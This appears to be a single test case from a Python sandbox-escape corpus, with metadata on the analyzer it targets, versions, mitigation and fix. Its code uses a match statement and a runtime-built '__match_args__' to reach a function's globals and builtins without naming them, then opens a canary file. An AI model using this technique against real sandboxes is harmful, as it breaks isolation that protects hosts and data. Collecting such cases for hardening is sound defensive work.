# id: match-args-positional-read
# family: syntax-and-filters
# kind: escape
# invariant: D, E
# origin: n8n's task analyzer refuses positional patterns
# technique: a positional class pattern takes the attribute's name from __match_args__, where it is data
# needs: 3.10+
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

import textwrap


class Anything(type):
    def __instancecheck__(cls, instance):
        return True


class Reader(metaclass=Anything):
    __match_args__ = ("_".join(["", "", "globals", "", ""]),)


match textwrap.dedent:
    case Reader(namespace):
        print(namespace["__builtins__"]["open"]("canary.txt").read())
    case _:
        raise PermissionError("the pattern does not match")
